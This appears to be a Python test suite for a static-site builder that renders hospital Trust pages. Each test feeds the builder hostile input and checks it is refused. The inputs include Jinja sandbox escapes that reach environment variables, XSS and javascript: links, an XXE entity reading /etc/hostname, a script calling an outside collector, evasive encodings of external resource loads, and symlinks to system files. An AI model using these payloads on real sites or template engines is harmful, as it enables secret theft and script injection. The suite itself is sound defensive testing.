"""A Trust's own files are untrusted input (issue 10 points 1-3, issue 13 point 5).

Each test breaks one rule on purpose in a throwaway copy of the project (or calls the one
function that enforces it) and checks the rule catches it, naming the Trust's own file.
"""

from __future__ import annotations

import concurrent.futures
import random
import shutil
from pathlib import Path

import pytest

from conftest import ROOT, run_in
from trustsite.guard import (html_references, is_other_host, may_load_from_other_host,
                             site_problems)
from trustsite.context import template_context
from trustsite.locale import LocaleError, load_locale
from trustsite.page_macros import page_macros
from trustsite.sandbox import render_trust_page
from trustsite.svg_png import svg_to_png

PAGE = "locales/example/pages/local.md"


@pytest.fixture(scope="module")
def context() -> dict:
    return template_context(load_locale("example"))


def render(source: str, context: dict) -> str:
    return render_trust_page(source, context, page_macros(lambda: "local.md"), PAGE, 3)


# -- 1. Trust pages cannot run code ----------------------------------------------------------

@pytest.mark.parametrize("source, line, says", [
    ("x\n{{ ''.__class__.__mro__ }}", 4, "__class__"),
    ("{{ trust.name.__class__.__init__.__globals__ }}", 3, "unsafe"),
    ("{{ trust.name|attr('__class__') }}", 3, "__class__"),
    ("{{ trust.update({'name': 'x'}) }}", 3, "update"),
    ("{{ config }}", 3, "'config'"),
    ("{{ cycler.__init__.__globals__ }}", 3, "'cycler'"),
    ("{{ lipsum() }}", 3, "'lipsum'"),
    ("a\nb\n{% include '/etc/passwd' %}", 5, "may not include"),
    ("{% import 'macros.py' as m %}", 3, "may not include"),
    ("{% extends 'main.html' %}", 3, "may not include"),
    ("{{ trust.no_such_field }}", 3, "'trust.no_such_field'"),
    ("{{ 'x' * 10000000000 }}", 3, "not allowed"),
    ("{{ 'x' * 1000 * 1000 * 1000 }}", 3, "not allowed"),
    ("{{ 2 ** 100000 }}", 3, "not allowed"),
    ("{% macro m() %}{{ m() }}{% endmacro %}{{ m() }}", 3, "recursion"),
])
def test_a_trust_page_that_reaches_outside_its_variables_is_refused(source, line, says,
                                                                    context):
    with pytest.raises(LocaleError) as raised:
        render(source, context)
    problem, = raised.value.problems
    assert str(problem).startswith(f"{PAGE}:{line}: ")
    assert says in str(problem)


def test_a_trust_page_keeps_its_variables_macros_and_escaping(context):
    rendered = render("{{ trust.short_name }} {{ email_link(research_office.email) }} "
                      "{{ cite('nihr-2021') if false }}{{ guide.title }}", context)
    assert rendered.startswith("Example Hospitals <a href=\"mailto:research@example")
    assert "Best Patient Care" in rendered


def test_a_hostile_trust_page_fails_the_build_naming_its_own_file_and_line(scratch_project,
                                                                          monkeypatch):
    secret = "s3cret-build-token-value"
    monkeypatch.setenv("TRUSTSITE_TEST_SECRET", secret)  # run_in passes os.environ on
    pages = scratch_project / "locales" / "example" / "pages"
    pages.mkdir()
    # Plain Jinja (as mkdocs-macros renders docs/) would print every environment variable.
    (pages / "local.md").write_text("---\ntitle: Local\n---\n# Local\n\n"
                                    "{{ cycler.__init__.__globals__.os.environ }}\n")
    for command in (["-m", "trustsite", "build", "example", "--out", "out"],
                    ["-m", "mkdocs", "build", "-q"]):
        result = run_in(scratch_project, *command, trust="example")
        output = result.stdout + result.stderr
        assert result.returncode != 0, output
        assert "locales/example/pages/local.md:6: cycler: there is no page variable" in output
        assert "docs/local.md" not in output
        assert secret not in output
    assert not (scratch_project / "out" / "example").exists()
    assert not (scratch_project / "site").exists()


def test_a_trust_page_is_not_rendered_again_by_the_macros_plugin(scratch_project):
    pages = scratch_project / "locales" / "example" / "pages"
    pages.mkdir()
    # Jinja text that the sandbox prints literally must reach the page as it is.
    # With no front matter: a Trust's page may not set render_macros (or any key but
    # title and review dates), and mkdocs-macros renders a page by default.
    (pages / "local.md").write_text("# Local\n\n"
                                    "{{ '{{ config.site_name }}' }} for {{ trust.short_name }}\n")
    result = run_in(scratch_project, "-m", "trustsite", "build", "example", "--out", "out")
    assert result.returncode == 0, result.stderr
    text = (scratch_project / "out" / "example" / "local.html").read_text()
    assert "{{ config.site_name }} for Example Hospitals" in text


# -- 4. `trustsite check` checks the Trust's own pages (issue 13 point 5) ---------------------

def test_check_names_each_trust_page_problem_with_its_line_and_a_suggestion(scratch_project):
    pages = scratch_project / "locales" / "example" / "pages"
    (pages / "team").mkdir(parents=True)
    (pages / "team" / "x.md").write_text(
        "---\ntitle: Our team\n---\n# Our team\n\nAsk {{ trust.shortname }}.\n"
        "Write to {{ emial_link(research_office.email) }}.\n"
        "Call {{ phone_link() }} {{ cite('no-such-key') }}.\n")
    (pages / "broken.md").write_text("# Broken\n\n{% if trust.name %}\n")
    result = run_in(scratch_project, "-m", "trustsite", "check", "example")
    assert result.returncode == 1
    lines = result.stderr.splitlines()
    assert any(line.startswith("locales/example/pages/team/x.md:6: trust.shortname: ")
               and "Did you mean 'trust.short_name'?" in line for line in lines), lines
    assert any(line.startswith("locales/example/pages/team/x.md:7: emial_link: ")
               and "Did you mean 'email_link'?" in line for line in lines), lines
    assert any(line.startswith("locales/example/pages/broken.md:3: syntax: ")
               for line in lines), lines
    assert "docs/" not in result.stderr
    assert "ok  example" not in result.stdout


@pytest.mark.parametrize("source, says", [
    ("{{ phone_link() }}", "missing 1 required positional argument"),
    ("{{ cite('no-such-key') }}", "unknown reference key"),
])
def test_check_reports_macro_misuse(source, says, context):
    with pytest.raises(LocaleError) as raised:
        render(source, context)
    assert says in str(raised.value) and str(raised.value).startswith(f"{PAGE}:3: macro: ")


# -- 3. The build fetches nothing and the site requests nothing ------------------------------

LOADING_SPELLINGS = [
    '<img src="https://elsewhere.example/a.png" alt="">',
    '<IMG SRC = "HTTPS://elsewhere.example/a.png" alt="">',
    '<img src="&#104;ttps://elsewhere.example/a.png" alt="">',
    '<img src="&#x68;ttps&colon;//elsewhere.example/a.png" alt="">',
    '<img src="//elsewhere.example/a.png" alt="">',
    '<img src="\\\\elsewhere.example/a.png" alt="">',
    '<img src=" \thttps://elsewhere.example/a.png" alt="">',
    '<img/src="https://elsewhere.example/a.png" alt="">',
    '<img srcset="a.png 1x, https://elsewhere.example/a.png 2x" alt="">',
    '<video poster="https://elsewhere.example/p.png"></video>',
    '<video src="https://elsewhere.example/v.mp4"></video>',
    '<audio><source src="https://elsewhere.example/a.mp3"></audio>',
    '<video><track src="https://elsewhere.example/t.vtt"></video>',
    '<picture><source srcset="https://elsewhere.example/a.webp"></picture>',
    '<object data="https://elsewhere.example/o.pdf"></object>',
    '<embed src="https://elsewhere.example/e.swf">',
    '<iframe src="https://elsewhere.example/"></iframe>',
    '<form><button formaction="https://elsewhere.example/">Go</button></form>',
    '<input type="image" src="https://elsewhere.example/i.png" alt="Go">',
    '<link rel="stylesheet" href="https://elsewhere.example/s.css">',
    '<link rel="icon" href="https://elsewhere.example/i.ico">',
    '<link rel="preload" href="https://elsewhere.example/f.woff2" as="font">',
    '<link rel="modulepreload" href="https://elsewhere.example/m.js">',
    '<link rel="manifest" href="https://elsewhere.example/m.json">',
    '<script src="https://elsewhere.example/s.js"></script>',
    '<div style="background: url(https://elsewhere.example/b.png)"></div>',
    '<div style="background: URL( \'//elsewhere.example/b.png\' )"></div>',
    '<div style="background: u\\72l(https://elsewhere.example/b.png)"></div>',
    '<style>@import "https://elsewhere.example/s.css";</style>',
    '<style>@import url(https://elsewhere.example/s.css);</style>',
    '<style>p { background: /* x */ url("https://elsewhere.example/b.png") }</style>',
    '<svg><image href="https://elsewhere.example/i.png"/></svg>',
    '<svg><use xlink:href="https://elsewhere.example/s.svg#a"/></svg>',
    '<svg><filter><feImage href="https://elsewhere.example/f.png"/></filter></svg>',
]


@pytest.mark.parametrize("html", LOADING_SPELLINGS)
def test_the_guard_finds_every_spelling_of_a_reference_that_loads(html):
    found = [url for _what, url in html_references(html) if is_other_host(url)]
    assert found, html


# Spellings where the guard's quick look (may_load_from_other_host) could read a page
# differently from html.parser: case, a Kelvin sign that lower-cases to "k", U+0130 (which
# lower-cases to two characters), a tag hidden in a comment or inside another tag's value.
QUICK_LOOK_SPELLINGS = LOADING_SPELLINGS + [
    '<img bac\u212aground="//elsewhere.example/b.png">',
    '<lin\u212a rel="stylesheet" href="//elsewhere.example/s.css">',
    '<p>\u0130\u0130<img src="//elsewhere.example/a.png"></p>',
    '<!-- <a title=" --> <img src="//elsewhere.example/a.png"> ">',
    '<link rel=stylesheet x=<a href="//elsewhere.example/s.css">',
    '<STYLE>@import "//elsewhere.example/s.css";</STYLE>',
    '<meta http-equiv="refresh" content="0; url=//elsewhere.example/">',
    '<base href="//elsewhere.example/">',
    '<div style="background: url(&#47;/elsewhere.example/b.png)"></div>',
    '<img alt=">" src="//elsewhere.example/a.png">',
    "<img src='//elsewhere.example/a.png'>",
    '<img src=//elsewhere.example/a.png>',
]


@pytest.mark.parametrize("html", QUICK_LOOK_SPELLINGS)
def test_the_guards_quick_look_sees_every_reference_the_parser_finds(html):
    assert [url for _what, url in html_references(html) if is_other_host(url)], html
    assert may_load_from_other_host(html), html


def test_the_guards_quick_look_never_misses_what_the_parser_finds_in_mixed_markup():
    """Random markup from pieces that confuse parsers (unclosed quotes and comments, style
    and script text, entities, case): whenever html.parser finds a reference to another
    host, the quick look must say so too. The seed is fixed, so a failure repeats."""
    pieces = ['<img src="//h.example/a.png">', "<IMG SRC=//h.example/a>", '<a href="//h.example">',
              "<link rel=icon href=//h.example/i>", "<link rel=canonical href=//h.example>",
              '<div style="background:url(//h.example/b)">', "<style>", "</style>", "<script>",
              "</script>", "<!--", "-->", '"', "'", "=", " ", "/", ">", "<", "&#47;", "&colon;",
              "src", "srcset=", " data=", "href=", "<svg>", "<use href=//h.example/u>", "<p>",
              "@import '//h.example/s.css';", "url(//h.example/c)", "\u0130", "<meta ",
              'http-equiv=refresh content="0;url=//h.example">', "<base ", "<![CDATA[", "]]>"]
    rng = random.Random(2026)
    missed = []
    for _ in range(4000):
        html = "".join(rng.choice(pieces) for _ in range(rng.randint(1, 12)))
        found = [url for _what, url in html_references(html) if is_other_host(url)]
        if found and not may_load_from_other_host(html):
            missed.append(html)
    assert not missed, missed[:5]


def test_the_guards_quick_look_passes_clean_pages_without_parsing_them(all_pages):
    """Built pages are clean, and the quick look must say so on its own: a page it cannot
    clear is parsed whole, and the guard is then as slow as before it."""
    assert all_pages
    assert [page for page in all_pages
            if may_load_from_other_host(page.read_text(encoding="utf-8"))] == []


@pytest.mark.parametrize("html", [
    '<a href="https://elsewhere.example/">Read more</a>',
    '<img src="assets/trust/logo.svg" alt="">',
    '<img src="data:image/png;base64,iVBORw0KGgo=" alt="">',
    '<link rel="canonical" href="https://elsewhere.example/">',
    '<svg><a href="https://elsewhere.example/"><text>x</text></a></svg>',
])
def test_the_guard_allows_links_to_read_and_the_sites_own_files(html):
    assert not [url for _what, url in html_references(html) if is_other_host(url)]


def test_the_guard_checks_css_and_svg_files(tmp_path):
    (tmp_path / "a.css").write_text("p{background:url('//elsewhere.example/b.png')}")
    (tmp_path / "b.svg").write_text('<svg xmlns="http://www.w3.org/2000/svg" '
                                    'xmlns:xlink="http://www.w3.org/1999/xlink">'
                                    '<image xlink:href="https://elsewhere.example/i.png"/></svg>')
    (tmp_path / "ok.css").write_text("p{background:url(ok.png)}")
    problems = site_problems(tmp_path)
    assert len(problems) == 2
    assert problems[0].startswith("a.css: ") and problems[1].startswith("b.svg: ")


def test_a_trust_raw_html_file_with_an_external_image_fails_and_keeps_the_old_site(
        scratch_project):
    first = run_in(scratch_project, "-m", "trustsite", "build", "example", "--out", "out")
    assert first.returncode == 0, first.stderr
    old = (scratch_project / "out" / "example" / "index.html").read_bytes()
    pages = scratch_project / "locales" / "example" / "pages"
    pages.mkdir()
    (pages / "poster.html").write_text('<p><img src="&#104;ttps://elsewhere.example/a.png" '
                                       'alt=""></p>')
    (pages / "local.md").write_text("# Local\n\nSee the <a href=\"https://elsewhere.example/\">"
                                    "other site</a>.\n")
    second = run_in(scratch_project, "-m", "trustsite", "build", "example", "--out", "out")
    assert second.returncode != 0
    # A raw HTML file is not a type a Trust may publish (issue 23 point 3).
    assert ("locales/example/pages/poster.html:0: file: this type of file cannot be published"
            in second.stderr)
    assert "local.md" not in second.stderr
    assert (scratch_project / "out" / "example" / "index.html").read_bytes() == old
    assert not (scratch_project / "out" / "example" / "poster.html").exists()


# Build the example Trust with every network call refused and recorded: a name looked up or
# a connection opened (Material's privacy and social plugins would download, for example).
RECORD_CONNECTIONS = r'''
import json, socket, tempfile
from pathlib import Path
tried = []
def refuse(what):
    def refused(*args, **options):
        tried.append(f"{what} {args!r}"[:200])
        raise OSError(f"no network in this test: {what}")
    return refused
socket.getaddrinfo = refuse("getaddrinfo")
socket.create_connection = refuse("create_connection")
socket.socket.connect = refuse("connect")
socket.socket.connect_ex = refuse("connect_ex")
from trustsite.build import build_site
from trustsite.locale import load_locale
site = Path(tempfile.mkdtemp()) / "example"
build_site(load_locale("example"), site)
assert (site / "index.html").is_file()
print(json.dumps(tried))
'''


def test_a_build_opens_no_network_connection():
    import json

    result = run_in(ROOT, "-c", RECORD_CONNECTIONS)
    assert result.returncode == 0, result.stderr[-3000:]
    assert json.loads(result.stdout.strip().splitlines()[-1]) == []


@pytest.mark.parametrize("svg, says", [
    ('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>', "<script>"),
    ('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', "event handler"),
    ('<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/hostname">]>'
     '<svg xmlns="http://www.w3.org/2000/svg">&x;</svg>', "ENTITY"),
    ('<svg xmlns="http://www.w3.org/2000/svg"><image href="https://elsewhere.example/a.png"/>'
     '</svg>', "another host"),
    ('<svg xmlns="http://www.w3.org/2000/svg"><style>@import "//elsewhere.example/a.css";'
     '</style></svg>', "another host"),
])
def test_an_unsafe_svg_logo_is_refused_when_the_locale_is_checked(scratch_project, svg, says):
    (scratch_project / "locales" / "example" / "logo.svg").write_text(svg)
    result = run_in(scratch_project, "-m", "trustsite", "check", "example")
    assert result.returncode == 1
    line = next(line for line in result.stderr.splitlines() if "brand.logo" in line)
    assert line.startswith("locales/example.yml:") and says in line, result.stderr


# -- 2. Nothing outside the locale's folder is published -------------------------------------

@pytest.mark.parametrize("link, target", [
    ("pages/readme.md", "../../../README.md"),
    ("pages/hostname.txt", "/etc/hostname"),
    ("pages/etc", "/etc"),
    ("stolen.svg", "../example.yml"),
])
def test_a_symbolic_link_out_of_the_locale_folder_is_refused(scratch_project, link, target):
    (scratch_project / "README.md").write_text("# Not the Trust's\n")
    folder = scratch_project / "locales" / "example"
    (folder / "pages").mkdir()
    (folder / link).symlink_to(target)
    for command in (["check", "example"], ["build", "example", "--out", "out"]):
        result = run_in(scratch_project, "-m", "trustsite", *command)
        assert result.returncode == 1
        assert f"locales/example/{link}:0: file: it is a symbolic link to a file outside " \
               "locales/example/" in result.stderr, result.stderr
    assert not (scratch_project / "out" / "example").exists()


def test_a_symbolic_link_that_stays_inside_the_folder_is_allowed(scratch_project):
    folder = scratch_project / "locales" / "example"
    (folder / "pages").mkdir()
    (folder / "pages" / "photo.png").write_bytes(svg_to_png((folder / "logo.svg").read_bytes()))
    (folder / "pages" / "photo-copy.png").symlink_to("photo.png")
    result = run_in(scratch_project, "-m", "trustsite", "check", "example")
    assert result.returncode == 0, result.stderr


def test_a_symlinked_locale_folder_is_refused(scratch_project, tmp_path):
    folder = scratch_project / "locales" / "example"
    elsewhere = tmp_path / "elsewhere"
    shutil.move(folder, elsewhere)
    folder.symlink_to(elsewhere)
    result = run_in(scratch_project, "-m", "trustsite", "check", "example")
    assert result.returncode == 1
    assert "locales/example:0: folder: the locale's folder is a symbolic link" in result.stderr


@pytest.mark.parametrize("name, why", [
    ("assets/trust/brand.css", "the build writes its own assets/trust/brand.css"),
    ("search/search_index.js", "the build writes its own search/search_index.js"),
    ("assets/javascripts/bundle.js", "the build writes its own"),
    ("downloads/role-description.docx", "the build writes its own"),
    ("sitemap.xml", "the build writes its own sitemap.xml"),
    ("assets/images/favicon.png", "the build writes its own"),
    ("index.html", "national page built from docs/index.md"),
    ("assets/vendor/iframe-worker-shim.js", "the build writes its own"),
])
def test_a_trust_file_may_not_replace_a_generated_or_theme_file(scratch_project, name, why):
    path = scratch_project / "locales" / "example" / "pages" / name
    path.parent.mkdir(parents=True)
    path.write_text("/* replaced */")
    result = run_in(scratch_project, "-m", "trustsite", "check", "example")
    assert result.returncode == 1
    line = f"locales/example/pages/{name}:0: file: "
    assert any(l.startswith(line) and why in l for l in result.stderr.splitlines()), \
        result.stderr


def test_theme_files_include_materials_own_assets():
    from trustsite.local_pages import theme_files
    assert any(name.startswith("assets/javascripts/bundle.") for name in theme_files())


def test_the_pdf_printer_reads_only_the_sites_own_files(tmp_path, monkeypatch):
    from pypdf import PdfReader

    from trustsite import pdf
    from trustsite.build import build_many

    locale = load_locale("example")
    result, = build_many([locale], tmp_path / "out", jobs=1)
    assert result.ok, result.message
    site = tmp_path / "out" / "example"
    secret = tmp_path / "secret.html"
    secret.write_text("<p>SECRET-OUTSIDE-THE-SITE</p>")
    outside = [secret.as_uri(), "file:///etc/hostname", "http://127.0.0.1:9/x.png"]
    page = site / "about" / "index.html"
    page.write_text(page.read_text(encoding="utf-8").replace(
        "</h1>", f'</h1><iframe src="{outside[0]}"></iframe><iframe src="{outside[1]}">'
        f'</iframe><img src="{outside[2]}" alt="">', 1), encoding="utf-8")
    asked: dict[str, bool] = {}
    allow = pdf.is_site_file
    monkeypatch.setattr(pdf, "is_site_file", lambda url, root: asked.setdefault(
        url, allow(url, root)))
    # In a thread of its own: the session's browser fixture may already run Playwright's
    # event loop in this one, and Playwright's sync API allows one loop a thread.
    with concurrent.futures.ThreadPoolExecutor(1) as thread:
        printed = thread.submit(pdf.write_pdf, site, locale, tmp_path / "example.pdf").result()
    text = " ".join(p.extract_text() for p in PdfReader(printed).pages)
    for url in outside:
        assert asked.get(url) is False, (url, asked)
    assert any(allowed and url.endswith(".css") for url, allowed in asked.items())
    assert "SECRET-OUTSIDE-THE-SITE" not in text
    assert Path("/etc/hostname").read_text().strip() not in text.replace(" ", "") \
        or not Path("/etc/hostname").read_text().strip()


# -- Raw HTML that could run code or reshape the page -----------------------------------------

@pytest.mark.parametrize("source, says", [
    ("<script>fetch('https://collector.invalid/')</script>", "the element <script>"),
    ("<SCRIPT src=x.js></SCRIPT>", "the element <script>"),
    ('<img src="photo.png" alt="" onerror="alert(1)">', "the attribute onerror= on <img>"),
    ("<style>body { display: none }</style>", "the element <style>"),
    ("<iframe src=\"page.html\"></iframe>", "the element <iframe>"),
    ('<a href="jav&#x09;ascript:alert(1)">Open</a>', "the attribute href= on <a>"),
    ("[Open](javascript:alert(1))", "the attribute href= on <a>"),
    ("[Open][open]\n\n[open]: JavaScript:alert(1)", "the attribute href= on <a>"),
])
def test_a_trust_page_may_not_hold_active_markup(source, says, context):
    """Each is named on the page's line that holds it (a reference link: its definition)."""
    from trustsite.sandbox import markdown_html, sanitised_page

    text = f"# Local\n\n{source}\n"
    clean, problems = sanitised_page(markdown_html(render(text, context)), text, PAGE, 1)
    problem, = problems
    line = 5 if "[open]:" in source else 3
    assert str(problem).startswith(f"{PAGE}:{line}: html: ") and says in str(problem), problem
    assert "alert" not in clean and "<script" not in clean.lower()


def test_a_trust_page_keeps_ordinary_links_images_and_formatting(context):
    source = ("# Local\n\n<b>Bold</b> and [a link](https://example.org/page) and "
              "![A photo](photo.png)\n\n<table><tr><th>A</th></tr></table>\n")
    assert "[a link](https://example.org/page)" in render(source, context)


@pytest.mark.parametrize("name, content, says", [
    ("leaflet.html", "<h1>Leaflet</h1>\n<p>Hello</p>\n<script>fetch('/x')</script>\n",
     "leaflet.html:0: file: this type of file cannot be published"),
    ("map.svg", '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
     "map.svg:0: file: an SVG can hold code"),
])
def test_a_trust_html_or_svg_file_may_not_hold_code(scratch_project, name, content, says):
    pages = scratch_project / "locales" / "example" / "pages"
    pages.mkdir(parents=True)
    (pages / name).write_text(content)
    result = run_in(scratch_project, "-m", "trustsite", "check", "example")
    assert result.returncode == 1
    assert f"locales/example/pages/{says}" in result.stderr, result.stderr
